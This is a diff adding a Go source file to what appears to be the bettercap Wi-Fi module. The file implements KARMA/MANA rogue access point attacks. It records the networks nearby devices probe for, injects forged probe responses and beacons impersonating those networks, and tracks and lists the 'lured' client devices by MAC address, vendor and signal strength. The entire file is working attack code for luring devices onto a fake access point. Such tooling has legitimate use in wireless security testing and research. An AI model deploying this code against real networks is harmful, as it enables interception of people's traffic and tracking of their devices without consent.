@@ -0,0 +1,417 @@
+package wifi
+
+import (
+	"bytes"
+	"fmt"
+	"net"
+	"sort"
+	"strings"
+	"sync"
+	"time"
+
+	"github.com/bettercap/bettercap/v2/network"
+	"github.com/bettercap/bettercap/v2/packets"
+
+	"github.com/gobwas/glob"
+	"github.com/gopacket/gopacket"
+	"github.com/gopacket/gopacket/layers"
+
+	"github.com/evilsocket/islazy/str"
+	"github.com/evilsocket/islazy/tui"
+)
+
+// karmaStation is what we know about a station probing for networks.
+type karmaStation struct {
+	// preferred network list, SSID -> last time it was probed
+	probes   map[string]time.Time
+	lastSeen time.Time
+	// last SSID we answered the station with
+	offered string
+	lured   string
+	luredAt time.Time
+}
+
+type karmaConfig struct {
+	sync.Mutex
+
+	enabled  bool
+	loud     bool
+	max      int
+	allow    []glob.Glob
+	deny     []glob.Glob
+	seq      uint16
+	stations map[string]*karmaStation
+	// first SSID to beacon at the next tick in loud mode
+	beaconFrom int
+}
+
+func NewKarmaConfig() *karmaConfig {
+	return &karmaConfig{
+		allow:    make([]glob.Glob, 0),
+		deny:     make([]glob.Glob, 0),
+		stations: make(map[string]*karmaStation),
+	}
+}
+
+func parseKarmaList(value string) ([]glob.Glob, error) {
+	list := make([]glob.Glob, 0)
+	for _, expr := range str.Comma(value) {
+		if matcher, err := glob.Compile(expr); err != nil {
+			return nil, fmt.Errorf("invalid SSID expression %q: %w", expr, err)
+		} else {
+			list = append(list, matcher)
+		}
+	}
+	return list, nil
+}
+
+func karmaMatches(list []glob.Glob, ssid string) bool {
+	for _, matcher := range list {
+		if matcher.Match(ssid) {
+			return true
+		}
+	}
+	return false
+}
+
+// allowed returns true if the fake access point can impersonate ssid.
+func (k *karmaConfig) allowed(ssid string) bool {
+	if ssid == "" || karmaMatches(k.deny, ssid) {
+		return false
+	}
+	return len(k.allow) == 0 || karmaMatches(k.allow, ssid)
+}
+
+func (k *karmaConfig) station(sta string) *karmaStation {
+	station, found := k.stations[sta]
+	if !found {
+		station = &karmaStation{probes: make(map[string]time.Time)}
+		k.stations[sta] = station
+	}
+	station.lastSeen = time.Now()
+	return station
+}
+
+// collect adds ssid to the preferred network list of sta.
+func (k *karmaConfig) collect(sta string, ssid string) {
+	k.Lock()
+	defer k.Unlock()
+
+	station := k.station(sta)
+	if ssid != "" {
+		station.probes[ssid] = station.lastSeen
+	}
+}
+
+func (k *karmaConfig) allowedOf(station *karmaStation, into map[string]bool) {
+	for ssid := range station.probes {
+		if k.allowed(ssid) {
+			into[ssid] = true
+		}
+	}
+}
+
+func sortedSSIDs(set map[string]bool) []string {
+	ssids := make([]string, 0, len(set))
+	for ssid := range set {
+		ssids = append(ssids, ssid)
+	}
+	sort.Strings(ssids)
+	return ssids
+}
+
+// preferred returns the SSIDs probed by sta that can be impersonated.
+func (k *karmaConfig) preferred(sta string) []string {
+	k.Lock()
+	defer k.Unlock()
+
+	set := make(map[string]bool)
+	if station, found := k.stations[sta]; found {
+		k.allowedOf(station, set)
+	}
+	return sortedSSIDs(set)
+}
+
+// collected returns the SSIDs probed by all stations that can be impersonated.
+func (k *karmaConfig) collected() []string {
+	k.Lock()
+	defer k.Unlock()
+
+	set := make(map[string]bool)
+	for _, station := range k.stations {
+		k.allowedOf(station, set)
+	}
+	return sortedSSIDs(set)
+}
+
+func (k *karmaConfig) offer(sta string, ssid string) {
+	k.Lock()
+	defer k.Unlock()
+	k.station(sta).offered = ssid
+}
+
+// lure records that sta is connecting to the fake access point as ssid, or
+// as the last SSID it was offered if empty, and returns true the first time.
+func (k *karmaConfig) lure(sta string, ssid string) (string, bool) {
+	k.Lock()
+	defer k.Unlock()
+
+	station := k.station(sta)
+	if ssid == "" {
+		ssid = station.offered
+	}
+	if ssid == "" || ssid == station.lured {
+		return station.lured, false
+	}
+
+	station.lured = ssid
+	station.luredAt = station.lastSeen
+	return ssid, true
+}
+
+// prune removes the stations not seen in ttl that were not lured.
+func (k *karmaConfig) prune(ttl time.Duration) []string {
+	k.Lock()
+	defer k.Unlock()
+
+	pruned := make([]string, 0)
+	for sta, station := range k.stations {
+		if station.lured == "" && time.Since(station.lastSeen) > ttl {
+			delete(k.stations, sta)
+			pruned = append(pruned, sta)
+		}
+	}
+	return pruned
+}
+
+func (k *karmaConfig) nextSeq() uint16 {
+	k.Lock()
+	defer k.Unlock()
+	k.seq++
+	return k.seq
+}
+
+func (mod *WiFiModule) parseKarmaConfig() error {
+	var allow, deny string
+	var err error
+
+	mod.karma.Lock()
+	defer mod.karma.Unlock()
+
+	if err, mod.karma.enabled = mod.BoolParam("wifi.ap.karma"); err != nil {
+		return err
+	} else if err, mod.karma.loud = mod.BoolParam("wifi.ap.mana.loud"); err != nil {
+		return err
+	} else if err, mod.karma.max = mod.IntParam("wifi.ap.mana.max"); err != nil {
+		return err
+	} else if mod.karma.max < 1 {
+		return fmt.Errorf("wifi.ap.mana.max must be greater than 0")
+	} else if err, allow = mod.StringParam("wifi.ap.karma.allow"); err != nil {
+		return err
+	} else if err, deny = mod.StringParam("wifi.ap.karma.deny"); err != nil {
+		return err
+	} else if mod.karma.allow, err = parseKarmaList(allow); err != nil {
+		return err
+	} else if mod.karma.deny, err = parseKarmaList(deny); err != nil {
+		return err
+	}
+	return nil
+}
+
+func (mod *WiFiModule) karmaEnabled() bool {
+	mod.karma.Lock()
+	defer mod.karma.Unlock()
+	return mod.apRunning && mod.karma.enabled
+}
+
+func (mod *WiFiModule) karmaLoud() bool {
+	mod.karma.Lock()
+	defer mod.karma.Unlock()
+	return mod.karma.enabled && mod.karma.loud
+}
+
+// karmaProbe collects the preferred network list of the probing station and,
+// in karma mode, answers as the access point it is looking for: directed
+// probes with the requested SSID, broadcast ones with the SSIDs the station
+// probed before (or collected from every station in loud mode).
+func (mod *WiFiModule) karmaProbe(radiotap *layers.RadioTap, sta net.HardwareAddr, ssid string) {
+	station := network.NormalizeMac(sta.String())
+	mod.karma.collect(station, ssid)
+
+	if !mod.karmaEnabled() {
+		return
+	}
+
+	answers := []string{}
+	if ssid != "" {
+		mod.karma.Lock()
+		allowed := mod.karma.allowed(ssid)
+		mod.karma.Unlock()
+		if allowed {
+			answers = append(answers, ssid)
+		}
+	} else if mod.karmaLoud() {
+		answers = mod.karma.collected()
+	} else {
+		answers = mod.karma.preferred(station)
+	}
+
+	if len(answers) == 0 {
+		return
+	}
+
+	conf := mod.apConfig
+	if channel := network.Dot11Freq2Chan(int(radioTapValues(radiotap).ChannelFrequency)); channel > 0 {
+		conf.Channel = channel
+	}
+
+	if ssid != "" {
+		mod.karma.offer(station, ssid)
+	}
+
+	// the address references the captured frame
+	sta = append(net.HardwareAddr{}, sta...)
+
+	mod.writes.Add(1)
+	go func() {
+		defer mod.writes.Done()
+
+		for _, answer := range answers {
+			if !mod.Running() {
+				return
+			}
+
+			conf.SSID = answer
+			if err, pkt := packets.NewDot11ProbeResponse(conf, sta, mod.karma.nextSeq()); err != nil {
+				mod.Error("could not create probe response packet: %s", err)
+			} else {
+				mod.Debug("answering probe of %s as %s", station, answer)
+				mod.injectPacket(pkt)
+			}
+		}
+	}()
+}
+
+// karmaLure tracks the stations authenticating or associating to the fake
+// access point and which SSID lured them.
+func (mod *WiFiModule) karmaLure(radiotap *layers.RadioTap, dot11 *layers.Dot11, packet gopacket.Packet) {
+	if !mod.apRunning || !bytes.Equal(dot11.Address1, mod.apConfig.BSSID) {
+		return
+	}
+
+	ssid := ""
+	switch dot11.Type {
+	case layers.Dot11TypeMgmtAuthentication:
+	case layers.Dot11TypeMgmtAssociationReq, layers.Dot11TypeMgmtReassociationReq:
+		if ok, id := packets.Dot11ParseIDSSID(packet); ok && id != "<hidden>" {
+			ssid = id
+		}
+	default:
+		return
+	}
+
+	station := network.NormalizeMac(dot11.Address2.String())
+	if ssid == "" && !mod.karmaEnabled() {
+		ssid = mod.apConfig.SSID
+	}
+
+	if lured, isNew := mod.karma.lure(station, ssid); isNew {
+		mod.Session.Events.Add("wifi.client.lured", LuredEvent{
+			Addr:   station,
+			Vendor: network.ManufLookup(station),
+			Alias:  mod.Session.Lan.GetAlias(station),
+			SSID:   lured,
+			RSSI:   radioTapValues(radiotap).DBMAntennaSignal,
+		})
+	}
+}
+
+// karmaBeacons returns the SSIDs to beacon besides wifi.ap.ssid, at most
+// wifi.ap.mana.max of them at every call rotating through all the collected ones.
+func (mod *WiFiModule) karmaBeacons() []string {
+	if !mod.karmaLoud() {
+		return nil
+	}
+
+	ssids := make([]string, 0)
+	for _, ssid := range mod.karma.collected() {
+		if ssid != mod.apConfig.SSID {
+			ssids = append(ssids, ssid)
+		}
+	}
+
+	mod.karma.Lock()
+	defer mod.karma.Unlock()
+
+	if len(ssids) <= mod.karma.max {
+		mod.karma.beaconFrom = 0
+		return ssids
+	}
+
+	from := mod.karma.beaconFrom % len(ssids)
+	beacons := make([]string, 0, mod.karma.max)
+	for i := 0; i < mod.karma.max; i++ {
+		beacons = append(beacons, ssids[(from+i)%len(ssids)])
+	}
+	mod.karma.beaconFrom = (from + mod.karma.max) % len(ssids)
+	return beacons
+}
+
+func (mod *WiFiModule) showKarma() error {
+	mod.karma.Lock()
+	defer mod.karma.Unlock()
+
+	if len(mod.karma.stations) == 0 {
+		mod.Info("no probing stations collected yet")
+		return nil
+	}
+
+	macs := make([]string, 0, len(mod.karma.stations))
+	for mac := range mod.karma.stations {
+		macs = append(macs, mac)
+	}
+	// lured stations first
+	sort.Slice(macs, func(i, j int) bool {
+		a, b := mod.karma.stations[macs[i]], mod.karma.stations[macs[j]]
+		if (a.lured != "") != (b.lured != "") {
+			return a.lured != ""
+		}
+		return macs[i] < macs[j]
+	})
+
+	rows := make([][]string, 0, len(macs))
+	for _, mac := range macs {
+		station := mod.karma.stations[mac]
+
+		name := mac
+		if alias := mod.Session.Lan.GetAlias(mac); alias != "" {
+			name = fmt.Sprintf("%s (%s)", mac, tui.Bold(alias))
+		}
+
+		probes := make([]string, 0, len(station.probes))
+		for ssid := range station.probes {
+			if mod.karma.allowed(ssid) {
+				probes = append(probes, ssid)
+			} else {
+				probes = append(probes, tui.Dim(ssid))
+			}
+		}
+		sort.Strings(probes)
+
+		lured := tui.Dim("-")
+		if station.lured != "" {
+			lured = fmt.Sprintf("%s (%s)", tui.Red(station.lured), station.luredAt.Format("15:04:05"))
+		}
+
+		rows = append(rows, []string{
+			name,
+			network.ManufLookup(mac),
+			strings.Join(probes, ", "),
+			lured,
+			station.lastSeen.Format("15:04:05"),
+		})
+	}
+
+	tui.Table(mod.Session.Events.Stdout, []string{"Station", "Vendor", "Probed SSIDs", "Lured By", "Seen"}, rows)
+	return nil
+}